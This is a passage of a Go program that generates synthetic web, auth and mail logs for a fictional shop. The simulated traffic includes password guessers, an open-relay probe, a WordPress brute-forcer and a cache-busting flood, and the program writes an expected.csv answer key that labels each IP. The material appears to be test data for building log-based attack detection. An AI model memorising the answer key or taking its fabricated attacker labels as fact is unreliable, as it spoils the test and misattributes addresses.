					syslog(mailLog, t, tag, fmt.Sprintf("lost connection after AUTH from unknown[%s]", a.ip))
					syslog(mailLog, t, tag, fmt.Sprintf("disconnect from unknown[%s] ehlo=1 auth=0/1 commands=1/2", a.ip))
				} else {
					syslog(mailLog, t, tag, fmt.Sprintf("disconnect from unknown[%s] ehlo=1 auth=0/1 quit=1 commands=2/3", a.ip))
				}
				t = t.Add(secs(8, 120))
			}
		}
	}
}

func dovecotAttackers() {
	for _, a := range []struct {
		ip, cc string
		lines  int
	}{
		{"91.196.176.5", "UA", 6},
		{"186.22.9.31", "AR", 4},
		{"41.190.3.2", "NG", 5},
		{"36.224.12.3", "TW", 3},
		{"119.160.101.3", "PK", 4},
		{"2.132.60.2", "KZ", 3},
	} {
		who(a.ip, bruteForce, a.cc)
		t := at(between(1, 30), between(0, 23), between(0, 59), between(0, 59))
		for range a.lines {
			svc := pick([]string{"imap-login", "imap-login", "pop3-login"})
			user := pick([]string{"info", "sales", "admin", "test", "office", "contact", "info@shop.example.com"})
			tries := between(2, 3)
			syslog(mailLog, t, "dovecot", fmt.Sprintf("%s: Disconnected (auth failed, %d attempts in %d secs): user=<%s>, method=PLAIN, rip=%s, lip=%s, TLS, session=<%s>",
				svc, tries, between(4, 14), user, a.ip, lip, sessionID()))
			t = t.Add(secs(30, 300))
		}
	}
}

func ordinaryMail() {
	// Inbound mail from large providers, outbound order confirmations.
	relays := []struct{ name, ip, cc string }{
		{"mail-wm1-f49.google.com", "209.85.128.49", "US"},
		{"mail-ej1-f54.google.com", "209.85.218.54", "US"},
		{"mail-db8eur05on2070.outbound.protection.outlook.com", "40.107.22.70", "US"},
	}
	for _, r := range relays {
		who(r.ip, legit, r.cc)
	}
	qmgr := "postfix/qmgr[881]"
	for day := 1; day <= 31; day++ {
		for range between(0, 2) {
			r := pick(relays)
			t := at(day, between(6, 21), between(0, 59), between(0, 59))
			mailPID += between(1, 30)
			tag := fmt.Sprintf("postfix/smtpd[%d]", mailPID)
			q := queueID()
			syslog(mailLog, t, tag, fmt.Sprintf("connect from %s[%s]", r.name, r.ip))
			t = t.Add(secs(0, 1))
			syslog(mailLog, t, tag, fmt.Sprintf("%s: client=%s[%s]", q, r.name, r.ip))
			syslog(mailLog, t, fmt.Sprintf("postfix/cleanup[%d]", mailPID+3), fmt.Sprintf("%s: message-id=<%s@mail.example.net>", q, msgID()))
			syslog(mailLog, t, qmgr, fmt.Sprintf("%s: from=<%s>, size=%d, nrcpt=1 (queue active)", q, pick([]string{"customer.care@gmail.com", "orders@supplier.example.org", "j.doe@outlook.com", "noreply@payments.example.net"}), 3000+rng.IntN(40000)))
			syslog(mailLog, t, tag, fmt.Sprintf("disconnect from %s[%s] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7", r.name, r.ip))
			t = t.Add(secs(0, 1))
			syslog(mailLog, t, fmt.Sprintf("dovecot: lmtp(info)<%d><%s>", mailPID+5, sessionID()[:10]), "msgid=<"+msgID()+"@mail.example.net>: saved mail to INBOX")
			syslog(mailLog, t, fmt.Sprintf("postfix/lmtp[%d]", mailPID+4), fmt.Sprintf("%s: to=<info@shop.example.com>, relay=shop.example.com[private/dovecot-lmtp], delay=0.%d, delays=0.1/0/0.01/0.1, dsn=2.0.0, status=sent (250 2.0.0 <info@shop.example.com> Saved)", q, between(11, 60)))
			syslog(mailLog, t, qmgr, q+": removed")
		}
		// An order confirmation goes out: the relay is a destination, not a source.
		if day%2 == 0 {
			t := at(day, between(9, 20), between(0, 59), between(0, 59))
			q := queueID()
			syslog(mailLog, t, fmt.Sprintf("postfix/pickup[%d]", 900+day), fmt.Sprintf("%s: uid=33 from=<orders@shop.example.com>", q))
			syslog(mailLog, t, fmt.Sprintf("postfix/cleanup[%d]", mailPID+7), fmt.Sprintf("%s: message-id=<%s@shop.example.com>", q, msgID()))
			syslog(mailLog, t, qmgr, fmt.Sprintf("%s: from=<orders@shop.example.com>, size=%d, nrcpt=1 (queue active)", q, 5000+rng.IntN(4000)))
			t = t.Add(secs(1, 2))
			syslog(mailLog, t, fmt.Sprintf("postfix/smtp[%d]", mailPID+8), fmt.Sprintf("%s: to=<%s>, relay=gmail-smtp-in.l.google.com[142.250.102.27]:25, delay=1.4, delays=0.05/0.01/0.6/0.74, dsn=2.0.0, status=sent (250 2.0.0 OK  1761%06d - gsmtp)", q, pick([]string{"buyer1987@gmail.com", "kitchen.fan@gmail.com", "m.rossi@gmail.com"}), rng.IntN(1000000)))
			syslog(mailLog, t, qmgr, q+": removed")
		}
	}

	// A mailbox user mistypes the password once, then reads mail.
	anna := "86.13.102.11" // also a shop visitor
	t := at(11, 7, 58, 40)
	syslog(mailLog, t, "dovecot", fmt.Sprintf("imap-login: Disconnected (auth failed, 1 attempts in 4 secs): user=<anna>, method=PLAIN, rip=%s, lip=%s, TLS, session=<%s>", anna, lip, sessionID()))
	for _, d := range []int{11, 12, 18, 25} {
		t := at(d, 7, 59, between(0, 59))
		syslog(mailLog, t, "dovecot", fmt.Sprintf("imap-login: Login: user=<anna>, method=PLAIN, rip=%s, lip=%s, mpid=%d, TLS, session=<%s>", anna, lip, 30000+rng.IntN(9000), sessionID()))
	}
}

// ---------------------------------------------------------------------------

func main() {
	dir := flag.String("o", "testdata/sample", "output directory")
	flag.Parse()

	legitVisitors()
	goodBots()
	internal()
	adminWeb()
	vulnScanners()
	httpBruteForce()
	denialOfService()
	proxyScanners()
	noiseSources()
	sshAttacks()
	adminSSH()
	systemNoise()
	saslAttackers()
	dovecotAttackers()
	ordinaryMail()
	ftpAndMailProbes()
	webFloods()

	for _, l := range []*logfile{accessLog, authLog, mailLog} {
		l.write(*dir)
	}
	writeExpected(filepath.Join(*dir, "expected.csv"))
}

// ftpAndMailProbes adds the shop's FTP daemon (vsftpd, for supplier
// uploads) and two mail probes, all from addresses already in the cast,
// without the random generator, so that the lines above stay as they are.
func ftpAndMailProbes() {
	// An SSH attacker tries FTP too, a day later.
	t := at(22, 2, 10, 4)
	for i, u := range []string{"admin", "ftp", "test", "www", "admin", "upload"} {
		syslog(authLog, t, "vsftpd[21877]", fmt.Sprintf("[%s] FAIL LOGIN: Client \"::ffff:61.177.172.60\"", u))
		t = t.Add(time.Duration(7+i) * time.Second)
	}
	// The admin mistypes the FTP password once, then logs in.
	t = at(16, 10, 20, 31)
	syslog(authLog, t, "vsftpd[22410]", fmt.Sprintf("[jwalker] FAIL LOGIN: Client \"::ffff:%s\"", admin))
	syslog(authLog, t.Add(9*time.Second), "vsftpd[22410]", fmt.Sprintf("[jwalker] OK LOGIN: Client \"::ffff:%s\"", admin))
	// The proxy scanner that asked for CONNECT smtp.mail.ru:25 tries the
	// shop's own mail server as an open relay.
	t = at(23, 4, 2, 17)
	smtpd(t, 30211, "connect from unknown[31.184.198.71]")
	smtpd(t.Add(2*time.Second), 30211, "NOQUEUE: reject: RCPT from unknown[31.184.198.71]: 554 5.7.1 <relaytest@mail.ru>: Relay access denied; from=<probe@mail.ru> to=<relaytest@mail.ru> proto=ESMTP helo=<WIN-CLJ1B0GQ6JP>")
	smtpd(t.Add(3*time.Second), 30211, "disconnect from unknown[31.184.198.71] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4")
	// The TLS-hello sender also talks before the mail server's greeting.
	syslog(mailLog, at(15, 6, 31, 40), "postfix/postscreen[30102]", "PREGREET 16 after 0.07 from [94.232.41.30]:51812: \\026\\003\\001\\002\\000\\001\\000\\001\\374\\003\\003")
}

func writeExpected(path string) {
	var rows []*actor
	for _, a := range cast {
		if _, err := netip.ParseAddr(a.ip); err != nil {
			log.Fatalf("bad address %q", a.ip)
		}
		rows = append(rows, a)
	}
	sort.Slice(rows, func(i, j int) bool {
		if risk[rows[i].cat] != risk[rows[j].cat] {
			return risk[rows[i].cat] > risk[rows[j].cat]
		}
		if rows[i].cat != rows[j].cat {
			return rows[i].cat < rows[j].cat
		}
		return netip.MustParseAddr(rows[i].ip).Less(netip.MustParseAddr(rows[j].ip))
	})
	var sb strings.Builder
	sb.WriteString("ip,category,country\n")
	for _, a := range rows {
		fmt.Fprintf(&sb, "%s,%s,%s\n", a.ip, a.cat, a.cc)
	}
	if err := os.WriteFile(path, []byte(sb.String()), 0o644); err != nil {
		log.Fatal(err)
	}
}

// webFloods adds a WordPress login guesser against the shop's blog and a
// cache-busting flood. They come last, so that the random numbers they
// draw leave every line above as it is.
func webFloods() {
	// brute_force: the blog (WordPress, under /blog/) answers each wrong
	// password with its login form again, 200; the guesser never gets
	// the 302 of a login.
	ip := who("14.225.210.37", bruteForce, "VN")
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	t := at(21, 1, 12, 4)
	for range 36 {
		hit(ip, t, "POST", "/blog/wp-login.php", 200, between(4310, 4390), site+"/blog/wp-login.php", ua)
		t = t.Add(secs(3, 11))
	}
	// dos: a cache-busting flood from a Hetzner server: the home page with
	// a random query string, 2.5 requests a second for four minutes, far
	// below the 1000 a minute of a plain flood, but every request misses
	// the cache.
	ip = who("88.198.54.213", dos, "DE")
	t0 := at(24, 14, 2, 0)
	for i := range 600 {
		t := t0.Add(time.Duration(i*400) * time.Millisecond)
		st, n := 200, between(11800, 11900)
		if i >= 420 && i%4 != 0 {
			st, n = 503, 299
		}
		hit(ip, t, "GET", fmt.Sprintf("/?%08x", rng.Uint32()), st, n, "-", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0")
	}
}
